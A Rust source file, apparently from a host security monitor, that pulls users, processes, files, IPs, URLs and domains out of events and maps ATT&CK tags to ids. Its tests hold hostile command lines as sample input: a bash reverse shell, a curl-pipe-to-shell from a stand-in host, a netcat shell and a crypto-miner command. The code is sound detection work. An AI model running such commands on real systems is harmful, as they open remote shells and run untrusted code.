@@ -1,0 +1,304 @@
+//! Typed entities (user, process, file, IP, URL, domain) pulled out of one Ward event
+//! for the alert, and ATT&CK ids pulled out of a rule's tags. Pure string work: no
+//! IO, no DNS, no rule knowledge beyond the tag names.
+
+use std::collections::BTreeSet;
+use std::net::IpAddr;
+
+use ward_protocol::Entity;
+
+use crate::event::{Event, EventData};
+
+/// Caps so a hostile command line cannot make an alert huge.
+const MAX_NETWORK_ENTITIES: usize = 16;
+const MAX_TOKEN_LEN: usize = 2048;
+
+/// ATT&CK tactic tag names (as Sigma writes them after `attack.`) to tactic ids.
+/// v18 names, plus the v19 names: `stealth` and `defense-impairment` replace
+/// `defense-evasion`. The v19 tactic ids were not in the offline ATT&CK snapshot
+/// (mitre/cti v18.1), so both map to TA0005, the tactic they were split from.
+pub const TACTICS: &[(&str, &str)] = &[
+    ("reconnaissance", "TA0043"),
+    ("resource-development", "TA0042"),
+    ("initial-access", "TA0001"),
+    ("execution", "TA0002"),
+    ("persistence", "TA0003"),
+    ("privilege-escalation", "TA0004"),
+    ("defense-evasion", "TA0005"),
+    ("stealth", "TA0005"),
+    ("defense-impairment", "TA0005"),
+    ("credential-access", "TA0006"),
+    ("discovery", "TA0007"),
+    ("lateral-movement", "TA0008"),
+    ("collection", "TA0009"),
+    ("exfiltration", "TA0010"),
+    ("command-and-control", "TA0011"),
+    ("impact", "TA0040"),
+];
+
+/// Technique ids (`T1059.004`) and tactic ids (`TA0002`) from Sigma tags, in tag
+/// order, without duplicates. Unknown `attack.*` tags (groups, software) are ignored.
+pub fn attack_ids(tags: &[String]) -> (Vec<String>, Vec<String>) {
+    let mut techniques = Vec::new();
+    let mut tactics = Vec::new();
+    for tag in tags {
+        let Some(rest) = tag
+            .strip_prefix("attack.")
+            .or_else(|| tag.strip_prefix("ATTACK."))
+            .or_else(|| tag.strip_prefix("Attack."))
+        else {
+            continue;
+        };
+        let rest = rest.trim().to_ascii_lowercase();
+        let is_technique = rest.len() >= 5
+            && rest.starts_with('t')
+            && rest[1..].bytes().all(|b| b.is_ascii_digit() || b == b'.')
+            && rest[1..5].bytes().all(|b| b.is_ascii_digit());
+        if is_technique {
+            let id = rest.to_ascii_uppercase();
+            if !techniques.contains(&id) {
+                techniques.push(id);
+            }
+            continue;
+        }
+        let normalized = rest.replace('_', "-");
+        let id = if normalized.starts_with("ta") && normalized[2..].bytes().all(|b| b.is_ascii_digit()) {
+            Some(normalized.to_ascii_uppercase())
+        } else {
+            TACTICS
+                .iter()
+                .find(|(name, _)| *name == normalized)
+                .map(|(_, id)| (*id).to_string())
+        };
+        if let Some(id) = id
+            && !tactics.contains(&id)
+        {
+            tactics.push(id);
+        }
+    }
+    (techniques, tactics)
+}
+
+/// Entities of one event: who, which process or file, and any network indicator.
+pub fn entities(event: &Event) -> Vec<Entity> {
+    let mut out = Vec::new();
+    match &event.data {
+        EventData::Process(p) => {
+            if !p.user.is_empty() || p.uid.is_some() {
+                out.push(Entity::User {
+                    name: p.user.clone(),
+                    uid: p.uid,
+                });
+            }
+            out.push(Entity::Process {
+                pid: p.pid,
+                ppid: p.ppid,
+                start_time_ms: p.start_time_ms,
+                exe: p.exe.clone(),
+                cmdline: p.cmdline.clone(),
+                sha256: p.sha256,
+            });
+            if !p.exe.is_empty() && p.sha256.is_some() {
+                out.push(Entity::File {
+                    path: p.exe.clone(),
+                    sha256: p.sha256,
+                });
+            }
+            network_entities(&p.cmdline, &mut out);
+        }
+        EventData::File(f) => {
+            out.push(Entity::File {
+                path: f.path.clone(),
+                sha256: f.sha256,
+            });
+        }
+        EventData::Auth(a) => {
+            if let Some(user) = a.user.as_deref().filter(|u| !u.is_empty()) {
+                out.push(Entity::User {
+                    name: user.to_string(),
+                    uid: None,
+                });
+            }
+            if let Some(ip) = a.source_ip.as_deref().and_then(|ip| ip.trim().parse::<IpAddr>().ok()) {
+                out.push(Entity::Ip { addr: ip });
+            }
+        }
+        EventData::Audit(a) => {
+            let f = &a.fields;
+            let uid = f
+                .get("auid")
+                .or_else(|| f.get("uid"))
+                .and_then(|u| u.parse::<u32>().ok());
+            let name = f.get("AUID").or_else(|| f.get("UID")).cloned();
+            if let Some(uid) = uid.filter(|u| *u != u32::MAX) {
+                out.push(Entity::User {
+                    name: name.unwrap_or_default(),
+                    uid: Some(uid),
+                });
+            }
+            if let (Some(pid), Some(exe)) = (f.get("pid").and_then(|p| p.parse::<u32>().ok()), f.get("exe")) {
+                let cmdline = execve_cmdline(f);
+                out.push(Entity::Process {
+                    pid,
+                    ppid: f.get("ppid").and_then(|p| p.parse().ok()).unwrap_or(0),
+                    start_time_ms: 0,
+                    exe: exe.trim_matches('"').to_string(),
+                    cmdline: cmdline.clone(),
+                    sha256: None,
+                });
+                network_entities(&cmdline, &mut out);
+            }
+            if let Some(name) = f.get("name").filter(|n| n.starts_with('/')) {
+                out.push(Entity::File {
+                    path: name.trim_matches('"').to_string(),
+                    sha256: None,
+                });
+            }
+        }
+        EventData::Gap(_) => {}
+    }
+    out
+}
+
+/// The command line of an audit EXECVE record (`a0`, `a1`, ... joined by spaces).
+fn execve_cmdline(f: &std::collections::BTreeMap<String, String>) -> String {
+    let Some(argc) = f.get("argc").and_then(|a| a.parse::<usize>().ok()) else {
+        return String::new();
+    };
+    (0..argc.min(64))
+        .filter_map(|i| f.get(&format!("a{i}")))
+        .map(|a| a.trim_matches('"'))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// IPs, URLs and the domains of URLs found in a command line: `http://x/y.sh`,
+/// `stratum+tcp://pool:3333`, `/dev/tcp/1.2.3.4/4444`, `1.2.3.4`, `1.2.3.4:4444`,
+/// `user@1.2.3.4`. Bare words that merely look like domains (`a.sh`) are not taken.
+pub fn network_entities(cmdline: &str, out: &mut Vec<Entity>) {
+    let mut seen = BTreeSet::new();
+    let mut push = |e: Entity, out: &mut Vec<Entity>| {
+        let key = format!("{e:?}");
+        if seen.len() < MAX_NETWORK_ENTITIES && seen.insert(key) {
+            out.push(e);
+        }
+    };
+    let tokens = cmdline
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ';' | '&' | '<' | '>' | '(' | ')' | '`'))
+        .filter(|t| !t.is_empty() && t.len() <= MAX_TOKEN_LEN);
+    for token in tokens {
+        if let Some(idx) = token.find("://") {
+            let scheme = &token[..idx];
+            if scheme.is_empty() || !scheme.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+') {
+                continue;
+            }
+            push(Entity::Url { url: token.to_string() }, out);
+            if let Some(host) = url_host(&token[idx + 3..]) {
+                push(host_entity(host), out);
+            }
+            continue;
+        }
+        let dev = token
+            .strip_prefix("/dev/tcp/")
+            .or_else(|| token.strip_prefix("/dev/udp/"));
+        if let Some(rest) = dev {
+            let host = rest.split('/').next().unwrap_or("");
+            if !host.is_empty() {
+                push(host_entity(host), out);
+            }
+            continue;
+        }
+        let candidate = token.rsplit('@').next().unwrap_or(token);
+        let candidate = candidate.split(':').next().unwrap_or(candidate);
+        if let Ok(ip) = candidate.parse::<IpAddr>() {
+            push(Entity::Ip { addr: ip }, out);
+        } else if let Ok(ip) = token.trim_matches(|c| c == '[' || c == ']').parse::<IpAddr>() {
+            push(Entity::Ip { addr: ip }, out);
+        }
+    }
+}
+
+/// The host part of what follows `scheme://`: no userinfo, no port, no path.
+fn url_host(rest: &str) -> Option<&str> {
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host_port = authority.rsplit('@').next()?;
+    let host = if let Some(v6) = host_port.strip_prefix('[') {
+        v6.split(']').next()?
+    } else {
+        host_port.split(':').next()?
+    };
+    (!host.is_empty()).then_some(host)
+}
+
+fn host_entity(host: &str) -> Entity {
+    match host.parse::<IpAddr>() {
+        Ok(addr) => Entity::Ip { addr },
+        Err(_) => Entity::Domain {
+            name: host.to_ascii_lowercase(),
+        },
+    }
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used, clippy::expect_used)]
+mod tests {
+    use super::*;
+
+    fn net(cmd: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        network_entities(cmd, &mut out);
+        out.iter()
+            .map(|e| match e {
+                Entity::Ip { addr } => format!("ip:{addr}"),
+                Entity::Url { url } => format!("url:{url}"),
+                Entity::Domain { name } => format!("domain:{name}"),
+                other => format!("{other:?}"),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn network_indicators_from_command_lines() {
+        let cases: &[(&str, &[&str])] = &[
+            ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", &["ip:1.2.3.4"]),
+            (
+                "curl -fsSL http://evil.example/y.sh | sh",
+                &["url:http://evil.example/y.sh", "domain:evil.example"],
+            ),
+            ("nc 10.0.0.5 4444 -e /bin/sh", &["ip:10.0.0.5"]),
+            ("ssh root@192.168.1.9", &["ip:192.168.1.9"]),
+            (
+                "xmrig -o stratum+tcp://pool.x.io:3333",
+                &["url:stratum+tcp://pool.x.io:3333", "domain:pool.x.io"],
+            ),
+            ("ls -la /tmp a.sh", &[]),
+            (
+                "wget 'https://[2001:db8::1]:8443/a'",
+                &["url:https://[2001:db8::1]:8443/a", "ip:2001:db8::1"],
+            ),
+        ];
+        for (cmd, want) in cases {
+            assert_eq!(net(cmd), *want, "{cmd}");
+        }
+    }
+
+    #[test]
+    fn attack_tags_to_ids() {
+        let tags: Vec<String> = [
+            "attack.execution",
+            "attack.t1059.004",
+            "attack.stealth",
+            "attack.defense-impairment",
+            "attack.defense-evasion",
+            "attack.g0032",
+            "cve.2021-44228",
+            "attack.T1105",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        let (tech, tac) = attack_ids(&tags);
+        assert_eq!(tech, vec!["T1059.004", "T1105"]);
+        assert_eq!(tac, vec!["TA0002", "TA0005"]);
+    }
+}
